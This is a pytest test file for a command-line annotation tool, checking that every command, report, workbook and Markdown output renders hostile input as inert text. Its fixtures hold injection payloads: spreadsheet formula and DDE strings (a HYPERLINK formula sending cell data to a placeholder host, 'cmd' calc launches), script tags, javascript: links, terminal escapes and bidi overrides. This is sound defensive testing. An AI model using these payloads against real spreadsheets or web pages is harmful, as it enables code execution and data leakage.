"""Passages, titles, sources, comments and file names that want to act come out of every command as plain text."""

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
import typer
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from annotate.cli.commands import app
from annotate.cli.speech import one_line
from annotate.codebook.guidelines import instructions
from annotate.errors import AnnotateError, InputError
from annotate.files import whole
from annotate.frames import csv_text, read_frame
from annotate.present.tables import harmless, rendered, spreadsheet_safe
from tests.study_example import export

WORDS = (
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script>",
    "</script></style></textarea><img src=http://x.example/p.png onerror=alert(1)>",
    "[Click](javascript:alert(1)) ![p](http://x.example/p.png) <a href='javascript:alert(1)'>b</a>",
    "red \x1b[31m title \x1b]0;owned\x07 C1 \x9b31m back \x08\x08",
    "safe \u202etxt.exe \u2066isolate\u2069",
    "null \x00 and a return\rover the line",
    "[bold]markup[/] [/nothing]",
    "long " + 40_000 * "x",
)
ACTS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
NAME = "ev\x1b[31mil \u202e\x07[bold].json"
OF_A_SERVER = {
    *(
        "server start",
        "server stop",
        "server status",
        "server backup",
        "server restore",
        "push",
        "status",
        "desk",
        "pull",
        "adjudicate",
        "link",
    ),
    *("annotators add", "demo"),
}
OF_A_STUDY = {
    *(
        "agreement",
        "compare",
        "disagreements",
        "consensus",
        "provenance",
        "plan",
        "claims",
        "sources",
        "graph",
    ),
    *(
        "concordance",
        "tables",
        "origins",
        "workbook",
        "report",
        "spans agreement",
        "spans pairs",
        "spans relations",
        "spans inside",
    ),
    *(
        "annotators pairs",
        "annotators leave-one-out",
        "annotators majority",
        "annotators rounds",
        "annotators gold",
    ),
    *("annotators kinds", "annotators machine", "icc"),
}
OF_TEXTS = {"reuse", "quantities", "ledger", "candidates", "suggest"}
OF_FILES = {"ingest", "check", "codebook", "assign", "merge", "changes", "rate", "rated"}


def commands(group: Any, before: tuple[str, ...] = ()) -> Iterator[str]:
    for name, command in group.commands.items():
        if hasattr(command, "commands"):
            yield from commands(command, (*before, name))
        else:
            yield " ".join((*before, name))


def test_an_error_is_one_line_whatever_it_quotes() -> None:
    quoted = "".join(WORDS) + "\u2028\x1e\x85\ud800"
    said = str(InputError(f"{quoted}: no such column; é and 中 stay"))
    assert len(said.splitlines()) == 1
    assert not ACTS.search(said)
    assert said.endswith("no such column; é and 中 stay")


def test_every_command_is_tried_here_or_needs_a_server() -> None:
    every = set(commands(typer.main.get_command(app)))
    assert every - OF_A_SERVER - OF_A_STUDY - OF_TEXTS - OF_FILES == set()


def hostile() -> list[dict[str, Any]]:
    """The example, in which all that is text is hostile."""
    tasks = export()
    for place, task in enumerate(tasks):
        words = [WORDS[(place + shift) % len(WORDS)] for shift in range(3)]
        data = {
            "text": f"{words[0]} {place}",
            "source": words[1][:300],
            "title": words[2],
            "url": "javascript:alert(1)",
        }
        task["data"] |= data | {"document_id": f"{words[1][:40]}{place // 2}", "published": words[2][:30]}
        task["data"] |= {"start": 0, "end": len(data["text"])}
        for one in task["annotations"]:
            for result in one["result"]:
                if result["type"] == "textarea":
                    result["value"]["text"] = [words[1]]
                if result["type"] == "labels":
                    result["value"] |= {"start": 0, "end": 9, "text": data["text"][:9]}
    return tasks


@pytest.fixture(scope="module")
def study(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile \x1b[31m\u202e") / NAME
    path.write_text(json.dumps(hostile()), encoding="utf-8")
    return path


def said(*arguments: object) -> str:
    """All that a command says to the person, its refusal too."""
    result = CliRunner().invoke(app, [str(one) for one in arguments])
    if isinstance(result.exception, AnnotateError):
        return result.output + one_line(f"annotate: {result.exception}")
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.output


def more(command: str, folder: Path) -> list[object]:
    (folder / "people.csv").write_text("annotator,team\nA1,x\nA2,x\nA3,y\n", encoding="utf-8")
    own: dict[str, list[object]] = {
        "workbook": ["-o", folder / "w.xlsx", "--replicates", 5],
        "report": ["-o", folder / "r.html", "--replicates", 5],
        "agreement": ["--by", "source", "--replicates", 5],
        "compare": ["--by", "source"],
        "plan": ["--half-width", 0.2],
        "annotators kinds": ["--annotators", folder / "people.csv"],
        "annotators machine": ["--machine", "A3"],
        "graph": ["--format", "html", "-o", folder / "g.html"],
        "origins": ["-o", folder / "o.csv"],
        "tables": ["-o", folder / "tables", "--replicates", 5],
    }
    return own.get(command, [])


@pytest.mark.parametrize("command", sorted(OF_A_STUDY | OF_TEXTS))
def test_no_command_passes_on_what_acts_on_a_terminal(study: Path, tmp_path: Path, command: str) -> None:
    rest = [] if command in OF_TEXTS else ["--on-invalid", "exclude"]
    text = said(*command.split(), study, *rest, *more(command, tmp_path))
    assert "Usage:" not in text
    assert not ACTS.search(text), ACTS.search(text)


def test_nor_do_commands_on_files(study: Path, tmp_path: Path) -> None:
    plain = tmp_path / NAME
    plain.write_bytes(study.read_bytes())
    documents = tmp_path / "docs \x1b[2J"
    documents.mkdir()
    (documents / "ev\x1b[31mil\u202e.txt").write_text("\n\n".join(WORDS[:9]), encoding="utf-8")
    people = tmp_path / "pe\x1bople.txt"
    people.write_text("a@example.org\nb@example.org\n", encoding="utf-8")
    tasks = tmp_path / "ta\x1bsks.json"
    told = [
        said("ingest", documents, "-o", tasks),
        said("check", plain, tmp_path / "no\x1bsuch.json"),
        said("codebook", "--config", tmp_path / "no\x1bsuch.xml"),
        said("assign", tasks, "--annotators", people, "--overlap", 2, "-o", tmp_path / "a\x1b.json"),
        said("merge", plain, study, "-o", tmp_path / "m\x1berged", "--on-invalid", "exclude"),
        said("changes", plain, study, "--on-invalid", "exclude", "--replicates", 5),
        said("rate", plain, "--on-invalid", "exclude", "-o", tmp_path / "ra\x1bte.json"),
        said("rated", plain, "--on-invalid", "exclude", "--rated", tmp_path / "no\x1bsuch"),
        said("rated", plain, "--on-invalid", "exclude", "--rated", study),
        said("agreement", tmp_path / "no\x1b[31msuch\u202e.csv"),
        said("assign", tasks, "--annotators", tmp_path / "none\x1b", "--overlap", 2),
    ]
    for text in told:
        assert text
        assert not ACTS.search(text), ACTS.search(text)


@pytest.mark.parametrize("form", ["csv", "json"])
def test_data_that_go_to_a_terminal_do_not_act_and_in_a_pipe_stay_as_they_are(form: Any) -> None:
    frame = pd.DataFrame({"text": [one[:60] for one in WORDS]})
    piped = rendered(frame, form)
    shown = harmless(piped, form)
    assert not ACTS.search(shown)
    if form == "json":
        assert [row["text"] for row in json.loads(piped)] == [one[:60] for one in WORDS]
        assert json.loads(shown) == json.loads(piped)


def test_each_cell_of_a_csv_can_be_read_back(tmp_path: Path) -> None:
    cells = [one for one in WORDS if "\x00" not in one] + ["a\rb", "a\nb", 'a"b\r', "\r", ",\r\n;"]
    frame = pd.DataFrame({"text": cells, "ends\r": [f"{place}" for place in range(len(cells))]})
    path = tmp_path / "cells.csv"
    path.write_text(csv_text(frame), encoding="utf-8", newline="")
    expected = [one.replace("\r\n", "\n") for one in cells]
    assert read_frame(path)["text"].tolist() == expected
    assert '"a\rb",' in path.read_bytes().decode("utf-8")


def test_files_of_old_machines_are_read_as_before(tmp_path: Path) -> None:
    (tmp_path / "mac.csv").write_bytes(b'a,b\r1,"x,y"\r2,z\r')
    (tmp_path / "windows.csv").write_bytes(b'a,b\r\n1,"x\r\ny"\r\n2,z\r\n')
    assert read_frame(tmp_path / "mac.csv").to_numpy().tolist() == [["1", "x,y"], ["2", "z"]]
    assert read_frame(tmp_path / "windows.csv").to_numpy().tolist() == [["1", "x\ny"], ["2", "z"]]


def test_no_text_is_a_formula_for_a_spreadsheet_where_that_is_asked_for(study: Path, tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": ["=1", "+1", "-1", "@a", "\tx", "\rx", "plain", None], "n": [-1.5] * 8})
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist()[:7] == ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "plain"]
    assert safe["n"].tolist() == frame["n"].tolist()
    output = tmp_path / "reuse.csv"
    said("ledger", study, "--mentions", "--format", "csv", "--spreadsheet-safe", "-o", output)
    said("quantities", study, "--format", "csv", "--spreadsheet-safe", "-o", tmp_path / "q.csv")
    for path in (output, tmp_path / "q.csv"):
        cells = read_frame(path)
        assert len(cells)
        assert not cells.map(
            lambda cell: isinstance(cell, str) and cell.startswith(("=", "+", "@", "\t"))
        ).any(axis=None)
    assert "goes with --format csv" in said("ledger", study, "--spreadsheet-safe")


def test_markdown_passes_no_html_no_link_and_no_picture(study: Path) -> None:
    frame = pd.DataFrame({"text": [one[:90] for one in WORDS], "more": ["`a` | b\\| c \\<b>"] * len(WORDS)})
    page = MarkdownIt("commonmark", {"html": True}).enable("table").parse(rendered(frame, "markdown"))
    kinds = {part.type for token in page for part in (token, *(token.children or ()))}
    assert not kinds & {"html_inline", "html_block", "link_open", "image", "code_inline"}
    shown = [token.content for token in page if token.type == "inline"]
    assert len(shown) == 2 + 2 * len(WORDS)


def test_guidelines_load_nothing_from_elsewhere_and_hold_no_script(tmp_path: Path) -> None:
    path = tmp_path / "guide.md"
    path.write_text(
        "# Guide\n\n<script>alert(1)</script> <img src=http://x.example/a.png>\n\n![a picture](http://x.example/p.png)\n"
        "![ref]\n\n[ref]: https://x.example/q.png\n\n[Click](javascript:alert(1)) [v](vbscript:x) [d](data:text/html,x) "
        "<javascript:alert(1)>\n\n[fine](https://example.org/)\n",
        encoding="utf-8",
    )
    page = instructions(path)
    assert not re.search(r"<(?:img|script|iframe|object|link|style)\b", page)
    assert re.findall(r'(?:href|src)="([^"]*)"', page) == ["https://example.org/"]
    assert "[picture: a picture]" in page


def _tags(page: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The tags of a page as a browser reads them, with their attributes."""
    found: list[tuple[str, list[tuple[str, str | None]]]] = []
    reader = HTMLParser()
    reader.handle_starttag = lambda tag, attributes: found.append((tag, attributes))  # type: ignore[method-assign]
    reader.feed(page)
    return found


def test_pages_and_workbooks_hold_hostile_passages_as_text(study: Path, tmp_path: Path) -> None:
    for command in ("report", "graph", "workbook"):
        said(command, study, "--on-invalid", "exclude", *more(command, tmp_path))
    for page in (tmp_path / "r.html", tmp_path / "g.html"):
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text
        for tag, attributes in _tags(text):
            assert tag not in {"img", "iframe"}
            assert not any(name.startswith("on") for name, _ in attributes)
            assert not any(
                re.search(r"x\.example|javascript:", said or "")
                for name, said in attributes
                if name in {"href", "src"}
            )
        assert not ACTS.search(text.replace("\t", ""))
    book = openpyxl.load_workbook(tmp_path / "w.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert not [one for one in formulas if "HYPERLINK" in str(one) or "cmd" in str(one)]
    assert any(str(cell.value).startswith("=HYPERLINK") and cell.data_type == "s" for cell in cells)
    assert not [cell for cell in cells if cell.hyperlink and "javascript" in str(cell.hyperlink.target)]


def test_a_full_disk_is_said_in_one_line(tmp_path: Path) -> None:
    with pytest.raises(AnnotateError, match=r"a\.txt: cannot be written \(No space left on device\)"):
        _write_to_a_full_disk(tmp_path / "a.txt")
    assert list(tmp_path.iterdir()) == []


def _write_to_a_full_disk(path: Path) -> None:
    with whole(path), Path("/dev/full").open("w", encoding="utf-8") as full:
        full.write("x")


def test_three_thousand_damaged_inputs_are_read_or_refused_in_one_line() -> None:
    """In a process of its own, which limits its memory; each case has two seconds of CPU time."""
    done = subprocess.run(
        [sys.executable, "-m", "benchmarks.fuzz", "3000", "--seed", "14"],
        cwd=Path(__file__).parents[1],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert "3000 cases, 0 failed" in done.stdout
